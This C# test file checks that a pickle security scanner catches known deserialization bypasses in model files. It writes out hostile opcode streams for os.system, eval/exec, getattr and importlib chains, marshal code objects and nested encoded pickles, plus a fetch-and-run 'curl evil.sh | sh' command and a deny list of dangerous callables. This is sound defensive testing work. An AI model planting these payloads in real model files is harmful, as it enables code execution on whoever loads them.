using System.Text;
using Lineage.Formats.Pickle;
using Lineage.IO;
using Lineage.Security;
using Lineage.Tests.Support;

namespace Lineage.Tests.Security;

/// <summary>
/// One regression test per known pickle bypass class, each written as opcodes (no Python, no fixtures). Every
/// malicious stream must fail CI (a finding at high or critical); the benign controls must stay clean.
/// </summary>
public class PickleBypassTests
{
    internal static FileReport Scan(byte[] data, string name = "model.bin", ScanOptions? options = null)
    {
        using var source = new MemoryByteSource(name, data);
        return new Scanner(options).ScanSource(source, name);
    }

    internal static Finding Flagged(FileReport report, string rule, Severity atLeast = Severity.High, string? text = null)
    {
        var hits = report.Findings.Where(f => f.Rule == rule && f.Severity >= atLeast && (text is null || (f.Message + " " + f.Evidence).Contains(text, StringComparison.Ordinal))).ToList();
        Assert.True(hits.Count > 0, $"expected {rule} >= {atLeast}{(text is null ? "" : $" mentioning '{text}'")}; got: {string.Join(" | ", report.Findings.Select(f => $"{f.Severity} {f.Rule} {f.Message} [{f.Evidence}]"))}");
        return hits[0];
    }

    internal static void Clean(FileReport report)
    {
        Assert.Equal(FileStatus.Scanned, report.Status);
        Assert.True(report.Findings.All(f => f.Severity < Severity.Low), string.Join(" | ", report.Findings.Select(f => $"{f.Severity} {f.Rule} {f.Message}")));
    }

    /// <summary><c>module.name(arg)</c> as a protocol 4 stream: STACK_GLOBAL, TUPLE1, REDUCE.</summary>
    internal static PickleBuilder CallP4(string module, string name, string arg) =>
        new PickleBuilder().Proto(4).StackGlobal(module, name).Str(arg).Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce);

    internal static byte[] Payload(string module = "os", string name = "system", string arg = "id") => CallP4(module, name, arg).Stop().ToArray();

    // ------------------------------------------------------------------ process execution

    [Theory]
    [InlineData("os", "system")]
    [InlineData("posix", "system")]
    [InlineData("nt", "system")]
    [InlineData("os", "popen")]
    [InlineData("posix", "execv")]
    public void Os_posix_and_nt_system_are_critical(string module, string name)
    {
        var r = Scan(Payload(module, name));
        var f = Flagged(r, "LIN-PKL-001", Severity.Critical, "process-execution");
        Assert.Equal(2 + 2 + module.Length + 2 + name.Length, f.Offset); // the STACK_GLOBAL opcode
        Assert.Contains($"{module}.{name}('id')", f.Evidence, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("Popen")]
    [InlineData("check_output")]
    [InlineData("getoutput")]
    [InlineData("run")]
    public void Subprocess_calls_are_critical(string name)
    {
        var b = new PickleBuilder().Proto(4).StackGlobal("subprocess", name).Mark().Str("sh").Str("-c").Str("id").Op(PickleOpcode.List)
            .Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce).Stop();
        Flagged(Scan(b.ToArray()), "LIN-PKL-001", Severity.Critical, "subprocess." + name);
    }

    // ------------------------------------------------------------------ code execution through builtins

    [Theory]
    [InlineData("builtins", "eval", 4)]
    [InlineData("builtins", "exec", 4)]
    [InlineData("builtins", "getattr", 4)]
    [InlineData("builtins", "__import__", 4)]
    [InlineData("__builtin__", "eval", 2)]
    [InlineData("__builtin__", "execfile", 2)]
    [InlineData("__builtin__", "__import__", 0)]
    public void Builtins_code_execution_is_critical_including_python2_names(string module, string name, int protocol)
    {
        var b = new PickleBuilder();
        if (protocol > 0) b.Proto(protocol);
        b.Global(module, name).Tuple(x => x.Str("__import__('os').system('id')")).Op(PickleOpcode.Reduce).Stop();
        var f = Flagged(Scan(b.ToArray()), "LIN-PKL-001", Severity.Critical);
        Assert.Contains("builtins.", f.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Getattr_on_an_imported_module_is_resolved_to_the_callable_it_reaches()
    {
        // getattr(__import__('os'), 'system')('id'): no GLOBAL names os at all.
        var b = new PickleBuilder().Proto(2)
            .Global("builtins", "getattr")
            .Mark().Call("builtins", "__import__", x => x.Str("os")).Str("system").Op(PickleOpcode.Tuple).Op(PickleOpcode.Reduce)
            .Tuple(x => x.Str("id")).Op(PickleOpcode.Reduce).Stop();
        var r = Scan(b.ToArray());
        var indirect = Flagged(r, "LIN-PKL-004", Severity.Critical, "os.system");
        Assert.Contains("getattr", indirect.Evidence, StringComparison.Ordinal);
        Flagged(r, "LIN-PKL-001", Severity.Critical, "builtins.getattr");
    }

    [Fact]
    public void Runpy_is_critical()
    {
        Flagged(Scan(Payload("runpy", "run_path", "/tmp/x.py")), "LIN-PKL-001", Severity.Critical, "code-execution");
        Flagged(Scan(Payload("runpy", "_run_code", "import os")), "LIN-PKL-001", Severity.Critical, "runpy._run_code");
    }

    [Fact]
    public void Importlib_import_module_chains_are_critical()
    {
        var b = new PickleBuilder().Proto(4)
            .StackGlobal("builtins", "getattr")
            .Mark().StackGlobal("importlib", "import_module").Str("os").Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce).Str("system").Op(PickleOpcode.Tuple)
            .Op(PickleOpcode.Reduce).Str("id").Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce).Stop();
        var r = Scan(b.ToArray());
        Flagged(r, "LIN-PKL-001", Severity.Critical, "importlib.import_module");
        Flagged(r, "LIN-PKL-004", Severity.Critical, "os.system");
    }

    [Fact]
    public void Pkgutil_resolve_name_universal_bypass_is_critical()
    {
        // GHSA-vvpj-8cmc-gx39: pkgutil.resolve_name('os:system')('id').
        var b = new PickleBuilder().Proto(4).StackGlobal("pkgutil", "resolve_name").Str("os:system").Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce)
            .Str("id").Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce).Stop();
        var r = Scan(b.ToArray());
        Flagged(r, "LIN-PKL-001", Severity.Critical, "pkgutil.resolve_name");
        Flagged(r, "LIN-PKL-004", Severity.High);
    }

    [Fact]
    public void Marshal_and_types_function_chains_are_critical()
    {
        // types.FunctionType(marshal.loads(code_bytes), {})() : code objects without a single os/subprocess name.
        byte[] code = [0xE3, 0, 0, 0, 0, 0x73, 0x04, 0, 0, 0, 0x97, 0, 0x79, 0];
        var b = new PickleBuilder().Proto(4)
            .StackGlobal("types", "FunctionType")
            .StackGlobal("marshal", "loads").Bytes(code).Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce)
            .Op(PickleOpcode.EmptyDict).Op(PickleOpcode.Tuple2).Op(PickleOpcode.Reduce)
            .Op(PickleOpcode.EmptyTuple).Op(PickleOpcode.Reduce).Stop();
        var r = Scan(b.ToArray());
        Flagged(r, "LIN-PKL-001", Severity.Critical, "marshal.loads");
        Flagged(r, "LIN-PKL-001", Severity.Critical, "types.FunctionType");
        Flagged(r, "LIN-PKL-004", Severity.High);

        var codeType = new PickleBuilder().Proto(4).StackGlobal("types", "CodeType").Mark().Int(0).Int(0).Op(PickleOpcode.Tuple).Op(PickleOpcode.Reduce).Stop();
        Flagged(Scan(codeType.ToArray()), "LIN-PKL-001", Severity.Critical, "types.CodeType");
    }

    [Fact]
    public void Operator_attrgetter_and_methodcaller_are_critical()
    {
        // attrgetter('system')(__import__('os'))('id')
        var attr = new PickleBuilder().Proto(4)
            .StackGlobal("operator", "attrgetter").Str("system").Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce)
            .StackGlobal("builtins", "__import__").Str("os").Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce).Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce)
            .Str("id").Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce).Stop();
        var r = Scan(attr.ToArray());
        Flagged(r, "LIN-PKL-001", Severity.Critical, "operator.attrgetter");
        Flagged(r, "LIN-PKL-004", Severity.Critical, "os.system");

        // methodcaller('system', 'id')(__import__('os'))
        var method = new PickleBuilder().Proto(4)
            .StackGlobal("_operator", "methodcaller").Str("system").Str("id").Op(PickleOpcode.Tuple2).Op(PickleOpcode.Reduce)
            .StackGlobal("builtins", "__import__").Str("os").Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce).Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce).Stop();
        Flagged(Scan(method.ToArray()), "LIN-PKL-001", Severity.Critical, "operator.methodcaller");
    }

    [Fact]
    public void Functools_partial_is_critical()
    {
        var b = new PickleBuilder().Proto(4)
            .StackGlobal("functools", "partial").StackGlobal("os", "system").Str("id").Op(PickleOpcode.Tuple2).Op(PickleOpcode.Reduce)
            .Op(PickleOpcode.EmptyTuple).Op(PickleOpcode.Reduce).Stop();
        var r = Scan(b.ToArray());
        Flagged(r, "LIN-PKL-001", Severity.Critical, "functools.partial");
        Flagged(r, "LIN-PKL-001", Severity.Critical, "os.system");
    }

    /// <summary>Names that reach code, process, file, network or native execution through one call.</summary>
    [Theory]
    [InlineData("ctypes", "CDLL", "native-code")]
    [InlineData("uuid", "_get_command_stdout", "process-execution")]
    [InlineData("imaplib", "IMAP4_stream", "network-access")]
    [InlineData("_osx_support", "_read_output", "process-execution")]
    [InlineData("pip", "main", "package-install")]
    [InlineData("pip._internal.cli.main", "main", "package-install")]
    [InlineData("torch.hub", "load", "code-execution")]
    [InlineData("torch.jit", "load", "code-execution")]
    [InlineData("torch.jit._script", "RecursiveScriptModule", "code-execution")]
    [InlineData("numpy.testing._private.utils", "runstring", "code-execution")]
    [InlineData("timeit", "timeit", "code-execution")]
    [InlineData("cProfile", "run", "code-execution")]
    [InlineData("profile", "Profile.run", "code-execution")]
    [InlineData("pdb", "run", "code-execution")]
    [InlineData("code", "interact", "code-execution")]
    [InlineData("code", "InteractiveInterpreter.runcode", "code-execution")]
    [InlineData("idlelib.pyshell", "ModifiedInterpreter.runcode", "code-execution")]
    [InlineData("doctest", "debug_script", "code-execution")]
    [InlineData("trace", "Trace.runctx", "code-execution")]
    [InlineData("shutil", "rmtree", "file-access")]
    [InlineData("webbrowser", "open", "network-access")]
    [InlineData("socket", "create_connection", "network-access")]
    [InlineData("asyncio.unix_events", "_UnixSubprocessTransport._start", "network-access")]
    [InlineData("torch._inductor.codecache", "compile_file", "code-execution")]
    [InlineData("torch._dynamo.guards", "GuardBuilder.get", "code-execution")]
    [InlineData("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", "code-execution")]
    [InlineData("torch.utils.bottleneck.__main__", "run_cprofile", "code-execution")]
    [InlineData("ensurepip", "_run_pip", "package-install")]
    [InlineData("venv", "create", "package-install")]
    [InlineData("pydoc", "pipepager", "process-execution")]
    [InlineData("numpy.f2py.crackfortran", "myeval", "code-execution")]
    [InlineData("lib2to3.pgen2.pgen", "ParserGenerator.make_label", "code-execution")]
    [InlineData("torch.utils.collect_env", "run", "process-execution")]
    [InlineData("requests", "get", "network-access")]
    [InlineData("urllib.request", "urlopen", "network-access")]
    [InlineData("builtins", "open", "file-access")]
    [InlineData("_io", "FileIO", "file-access")]
    [InlineData("sys", "modules", "interpreter-state")]
    public void Known_dangerous_callables_are_critical_with_their_category(string module, string name, string category)
    {
        var f = Flagged(Scan(Payload(module, name, "x")), "LIN-PKL-001", Severity.Critical, category);
        Assert.NotNull(f.Evidence);
    }

    // ------------------------------------------------------------------ nested deserialization

    [Fact]
    public void Torch_load_of_embedded_bytes_is_critical_and_the_inner_pickle_is_scanned()
    {
        byte[] inner = Payload("subprocess", "getoutput", "id");
        var b = new PickleBuilder().Proto(4)
            .StackGlobal("torch", "load").StackGlobal("io", "BytesIO").Bytes(inner).Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce)
            .Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce).Stop();
        var r = Scan(b.ToArray());
        Flagged(r, "LIN-PKL-001", Severity.Critical, "torch.load");
        var nested = Flagged(r, "LIN-PKL-001", Severity.Critical, "subprocess.getoutput");
        Assert.Contains("torch.load argument", nested.Entry, StringComparison.Ordinal);
    }

    [Fact]
    public void Torch_load_from_bytes_is_allowed_only_when_its_nested_checkpoint_is_clean()
    {
        // Old torch pickles store each storage as torch.save(storage) bytes passed to torch.storage._load_from_bytes.
        byte[] storagePickle = new PickleBuilder().Proto(2).StoragePid("FloatStorage", "0", 4).Stop().ToArray();
        byte[] benign = TorchBuilder.Zip(storagePickle, [("0", TorchBuilder.Floats(1, 2, 3, 4))]);
        byte[] Outer(byte[] nested) => new PickleBuilder().Proto(2).Global("torch.storage", "_load_from_bytes").Bytes(nested).Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce).Stop().ToArray();
        Clean(Scan(Outer(benign)));

        byte[] hostile = TorchBuilder.Zip(Payload(), [("0", TorchBuilder.Floats(1, 2, 3, 4))]);
        var r = Scan(Outer(hostile));
        Flagged(r, "LIN-PKL-001", Severity.Critical, "torch.storage._load_from_bytes");
        Assert.EndsWith("archive/data.pkl", Flagged(r, "LIN-PKL-001", Severity.Critical, "os.system").Entry, StringComparison.Ordinal);

        // A computed argument cannot be checked: the loader stays critical.
        var computed = new PickleBuilder().Proto(2).Global("torch.storage", "_load_from_bytes").PersId("x").Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce).Stop();
        Flagged(Scan(computed.ToArray()), "LIN-PKL-001", Severity.Critical, "_load_from_bytes");
    }

    public static TheoryData<string> Encodings() => ["raw", "base64", "hex", "codecs-hex", "zlib", "latin1"];

    [Theory]
    [MemberData(nameof(Encodings))]
    public void Nested_pickle_loads_is_decoded_and_scanned(string encoding)
    {
        byte[] inner = Payload("os", "system", "curl evil.sh | sh");
        var b = new PickleBuilder().Proto(4).StackGlobal("pickle", "loads");
        switch (encoding)
        {
            case "raw":
                b.Bytes(inner);
                break;
            case "base64":
                b.StackGlobal("base64", "b64decode").Str(Convert.ToBase64String(inner)).Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce);
                break;
            case "hex":
                b.Global("builtins", "bytes.fromhex").Str(Convert.ToHexString(inner)).Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce);
                break;
            case "codecs-hex":
                b.StackGlobal("codecs", "decode").Str(Convert.ToHexString(inner).ToLowerInvariant()).Str("hex").Op(PickleOpcode.Tuple2).Op(PickleOpcode.Reduce);
                break;
            case "zlib":
                b.StackGlobal("zlib", "decompress").Bytes(Zlib(inner)).Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce);
                break;
            case "latin1":
                b.StackGlobal("_codecs", "encode").Str(Encoding.Latin1.GetString(inner)).Str("latin1").Op(PickleOpcode.Tuple2).Op(PickleOpcode.Reduce);
                break;
        }
        b.Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce).Stop();
        var r = Scan(b.ToArray());
        Flagged(r, "LIN-PKL-001", Severity.Critical, "pickle.loads");
        var inside = Flagged(r, "LIN-PKL-001", Severity.Critical, "os.system");
        Assert.Contains("pickle.loads argument", inside.Entry, StringComparison.Ordinal);
        Assert.Contains(r.Findings, f => f.Rule == "LIN-PKL-008");
    }

    private static byte[] Zlib(byte[] data)
    {
        using var ms = new MemoryStream();
        using (var z = new System.IO.Compression.ZLibStream(ms, System.IO.Compression.CompressionLevel.Optimal)) z.Write(data);
        return ms.ToArray();
    }

    [Theory]
    [InlineData("bytes")]
    [InlineData("base64")]
    [InlineData("hex")]
    public void Pickles_stored_as_data_are_scanned(string how)
    {
        byte[] inner = Payload("os", "system", "id");
        var b = new PickleBuilder().Proto(4).Op(PickleOpcode.EmptyDict).Str("weights");
        if (how == "bytes") b.Bytes(inner);
        else b.Str(how == "base64" ? Convert.ToBase64String(inner) : Convert.ToHexString(inner));
        b.Op(PickleOpcode.SetItem).Stop();
        var r = Scan(b.ToArray());
        var f = Flagged(r, "LIN-PKL-001", Severity.Critical, "os.system");
        Assert.StartsWith("embedded pickle at byte", f.Entry, StringComparison.Ordinal);
    }

    [Fact]
    public void Embedded_pickles_nest_only_to_the_depth_limit()
    {
        byte[] data = Payload();
        for (int i = 0; i < 12; i++)
            data = new PickleBuilder().Proto(4).StackGlobal("pickle", "loads").Bytes(data).Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce).Stop().ToArray();
        var r = Scan(data);
        Flagged(r, "LIN-SCAN-006");
        Assert.Equal(FileStatus.Error, r.Status);
    }

    // ------------------------------------------------------------------ opcode forms

    [Fact]
    public void Stack_global_operands_from_the_memo_are_resolved()
    {
        // picklescan memo confusion: BINPUT and MEMOIZE mixed so that a scanner tracking only one sees "torch._utils".
        var b = new PickleBuilder().Proto(4)
            .BinString("os").BinPut(0).Op(PickleOpcode.Pop)
            .BinString("system").BinPut(1).Op(PickleOpcode.Pop)
            .Str("torch._utils").Op(PickleOpcode.Memoize).Op(PickleOpcode.Pop)
            .Str("_rebuild_tensor_v2").Op(PickleOpcode.Memoize).Op(PickleOpcode.Pop)
            .BinGet(0).BinGet(1).Op(PickleOpcode.StackGlobal)
            .Str("id").Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce).Stop();
        Flagged(Scan(b.ToArray()), "LIN-PKL-001", Severity.Critical, "os.system");
    }

    [Fact]
    public void Stack_global_with_operands_built_by_calls_is_a_finding()
    {
        // STACK_GLOBAL(str('posix'), 'system'): the module name is the result of a call.
        var b = new PickleBuilder().Proto(4)
            .StackGlobal("builtins", "str").Str("posix").Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce)
            .Str("system").Op(PickleOpcode.StackGlobal).Str("id").Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce).Stop();
        var r = Scan(b.ToArray());
        var f = Flagged(r, "LIN-PKL-007", Severity.High, "result of");
        Assert.NotNull(f.Offset);
    }

    [Fact]
    public void Inst_obj_newobj_and_newobj_ex_forms_are_evaluated()
    {
        var inst = new PickleBuilder().Mark().StringText("'id'").Inst("os", "system").Stop();
        Flagged(Scan(inst.ToArray()), "LIN-PKL-001", Severity.Critical, "os.system");

        var obj = new PickleBuilder().Proto(1).Mark().Global("subprocess", "Popen").Mark().ShortBinString("id").Op(PickleOpcode.List).Op(PickleOpcode.Obj).Stop();
        Flagged(Scan(obj.ToArray()), "LIN-PKL-001", Severity.Critical, "subprocess.Popen");

        var newobj = new PickleBuilder().Proto(2).Global("subprocess", "Popen").Mark().Str("id").Op(PickleOpcode.List).Op(PickleOpcode.Tuple1).Op(PickleOpcode.NewObj).Stop();
        Flagged(Scan(newobj.ToArray()), "LIN-PKL-001", Severity.Critical, "subprocess.Popen");

        var newobjEx = new PickleBuilder().Proto(4).StackGlobal("subprocess", "Popen").Op(PickleOpcode.EmptyTuple)
            .Op(PickleOpcode.EmptyDict).Str("args").Str("id").Op(PickleOpcode.SetItem).Op(PickleOpcode.NewObjEx).Stop();
        Flagged(Scan(newobjEx.ToArray()), "LIN-PKL-001", Severity.Critical, "subprocess.Popen");
    }

    [Theory]
    [InlineData(1)]
    [InlineData(2)]
    [InlineData(4)]
    public void Extension_codes_are_findings(int width)
    {
        var b = new PickleBuilder().Proto(2);
        _ = width switch { 1 => b.Ext1(0x42), 2 => b.Ext2(0x1234), _ => b.Ext4(0x12345678) };
        b.Tuple(x => x.Str("id")).Op(PickleOpcode.Reduce).Stop();
        Flagged(Scan(b.ToArray()), "LIN-PKL-006", Severity.High, "copyreg");
    }

    [Fact]
    public void Build_that_overwrites_setstate_is_critical()
    {
        // obj = Namespace(); obj.__dict__.update({'__setstate__': exec}); obj.__setstate__('import os') via a second BUILD.
        var b = new PickleBuilder().Proto(2)
            .Global("argparse", "Namespace").Op(PickleOpcode.EmptyTuple).Op(PickleOpcode.NewObj)
            .Op(PickleOpcode.EmptyDict).Str("__setstate__").Global("builtins", "exec").Op(PickleOpcode.SetItem).Op(PickleOpcode.Build)
            .Str("import os; os.system('id')").Op(PickleOpcode.Build).Stop();
        var r = Scan(b.ToArray());
        Flagged(r, "LIN-PKL-005", Severity.Critical, "__setstate__");
        Assert.Equal(2, r.Findings.Count(f => f.Rule == "LIN-PKL-005" && f.Severity == Severity.Critical));

        // BUILD applied straight to a module-level object mutates the interpreter.
        var global = new PickleBuilder().Proto(2).Global("collections", "OrderedDict").Op(PickleOpcode.EmptyDict).Str("x").Int(1).Op(PickleOpcode.SetItem)
            .Op(PickleOpcode.Build).Stop();
        Flagged(Scan(global.ToArray()), "LIN-PKL-005", Severity.High, "module-level");
    }

    [Fact]
    public void Non_callable_persistent_and_memo_callables_are_indirect_calls()
    {
        var b = new PickleBuilder().Proto(2).PersId("evil").Tuple(x => x.Str("id")).Op(PickleOpcode.Reduce).Stop();
        Flagged(Scan(b.ToArray()), "LIN-PKL-004", Severity.High, "not a named global");
    }

    // ------------------------------------------------------------------ broken and stacked streams

    [Fact]
    public void A_payload_before_a_corrupt_byte_is_reported_and_the_file_fails_closed()
    {
        var bytes = CallP4("os", "system", "id").Raw(0xFF, 0xFE).ToArray();
        // Named like a text file: the content still decides.
        var r = Scan(bytes, "notes.txt");
        Assert.Equal("pickle", r.Format);
        Assert.Equal(FileStatus.Error, r.Status);
        Flagged(r, "LIN-PKL-001", Severity.Critical, "os.system");
        var error = Flagged(r, "LIN-SCAN-001", Severity.High, "unknown pickle opcode");
        Assert.Equal(bytes.Length - 2, error.Offset);

        var truncated = Scan(CallP4("os", "system", "id").ToArray(), "weights.pt");
        Flagged(truncated, "LIN-PKL-001", Severity.Critical);
        Flagged(truncated, "LIN-SCAN-001", Severity.High, "STOP");
    }

    [Fact]
    public void A_missing_memo_reference_does_not_hide_earlier_globals()
    {
        // GHSA-9gvj-pp9x-gcfr: an invalid memo reference crashed scanners after the payload.
        var b = CallP4("os", "system", "id").BinGet(99).Op(PickleOpcode.StackGlobal).Stop();
        var r = Scan(b.ToArray());
        Flagged(r, "LIN-PKL-001", Severity.Critical);
        Flagged(r, "LIN-SCAN-001", Severity.High, "memo key 99");
    }

    [Fact]
    public void Every_stream_of_a_multi_pickle_file_is_scanned()
    {
        var first = new PickleBuilder().Proto(4).Op(PickleOpcode.EmptyDict).Str("w").Int(1).Op(PickleOpcode.SetItem).Stop();
        byte[] file = [.. first.ToArray(), .. Payload("os", "system", "id")];
        var r = Scan(file);
        var f = Flagged(r, "LIN-PKL-001", Severity.Critical, "os.system");
        Assert.Contains("pickle 2", f.Entry, StringComparison.Ordinal);
        Assert.Contains(r.Findings, x => x.Rule == "LIN-PKL-009" && x.Message.Contains("2 pickles", StringComparison.Ordinal));
    }

    [Fact]
    public void Op_limits_are_reported_as_limits()
    {
        var b = new PickleBuilder().Proto(4);
        for (int i = 0; i < 2000; i++) b.None().Op(PickleOpcode.Pop);
        b.None().Stop();
        Clean(Scan(b.ToArray()));
        var r = Scan(b.ToArray(), options: new ScanOptions { PickleLimits = new PickleLimits { MaxOpcodes = 100 } });
        Assert.Equal(FileStatus.Error, r.Status);
        Flagged(r, "LIN-SCAN-006", Severity.High, "more than 100 opcodes");
        Assert.DoesNotContain(r.Findings, f => f.Rule == "LIN-SCAN-001");

        byte[] one = new PickleBuilder().Proto(4).None().Stop().ToArray();
        byte[] many = [.. Enumerable.Repeat(one, 70).SelectMany(x => x)];
        var streams = Scan(many, options: new ScanOptions { MaxPickleStreams = 64 });
        Flagged(streams, "LIN-SCAN-006", Severity.High, "more than 64 pickles");
        Assert.DoesNotContain(Scan([.. one, .. "trailing text"u8]).Findings, f => f.Severity >= Severity.Low);
    }

    // ------------------------------------------------------------------ benign controls

    [Fact]
    public void Ordinary_state_dicts_and_numpy_pickles_are_clean()
    {
        var torch = new PickleBuilder().Proto(2).Global("collections", "OrderedDict").Op(PickleOpcode.EmptyTuple).Op(PickleOpcode.Reduce)
            .Str("layer.weight").TensorV2("FloatStorage", "0", 4, 0, [2, 2], TorchBuilder.RowMajor(2, 2)).Op(PickleOpcode.SetItem).Stop();
        Clean(Scan(torch.ToArray()));

        // numpy array in protocol 2: _reconstruct + BUILD with _codecs.encode'd data.
        var numpy = new PickleBuilder().Proto(2)
            .Global("numpy.core.multiarray", "_reconstruct").Global("numpy", "ndarray").Tuple(x => x.Int(0)).StringText("'b'").Op(PickleOpcode.Tuple3).Op(PickleOpcode.Reduce)
            .Mark().Int(1).Tuple(x => x.Int(2)).Global("numpy", "dtype").Tuple(x => x.Str("f4"), x => x.Bool(false), x => x.Bool(true)).Op(PickleOpcode.Reduce)
            .Bool(false).Global("_codecs", "encode").Tuple(x => x.Str("\u0080\u0004abcd"), x => x.Str("latin1")).Op(PickleOpcode.Reduce)
            .Op(PickleOpcode.Tuple).Op(PickleOpcode.Build).Stop();
        Clean(Scan(numpy.ToArray()));
    }

    [Fact]
    public void Joblib_numpy_array_wrappers_are_benign_and_their_inline_bytes_are_skipped()
    {
        // joblib writes the array bytes right after the wrapper's BUILD (after a padding byte when aligned).
        byte[] arrayBytes = [0x80, 0x04, 0xFF, 0xFF, 0xFF, 0xFF, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00];
        var b = new PickleBuilder().Proto(4).Op(PickleOpcode.EmptyDict).Str("coef")
            .StackGlobal("joblib.numpy_pickle", "NumpyArrayWrapper").Op(PickleOpcode.EmptyTuple).Op(PickleOpcode.NewObj)
            .Op(PickleOpcode.EmptyDict).Mark()
            .Str("subclass").StackGlobal("numpy", "ndarray")
            .Str("shape").Int(4).Op(PickleOpcode.Tuple1)
            .Str("order").Str("C")
            .Str("dtype").StackGlobal("numpy", "dtype").Str("f4").Bool(false).Bool(true).Op(PickleOpcode.Tuple3).Op(PickleOpcode.Reduce)
            .Mark().Int(3).Str("<").None().None().None().Int(-1).Int(-1).Int(0).Op(PickleOpcode.Tuple).Op(PickleOpcode.Build)
            .Str("allow_mmap").Bool(false)
            .Str("numpy_array_alignment_bytes").Int(16)
            .Op(PickleOpcode.SetItems).Op(PickleOpcode.Build)
            .Raw(3, 0xFF, 0xFF, 0xFF).Raw(arrayBytes)
            .Op(PickleOpcode.SetItem).Stop();
        var r = Scan(b.ToArray(), "model.joblib");
        Clean(r);
    }
}
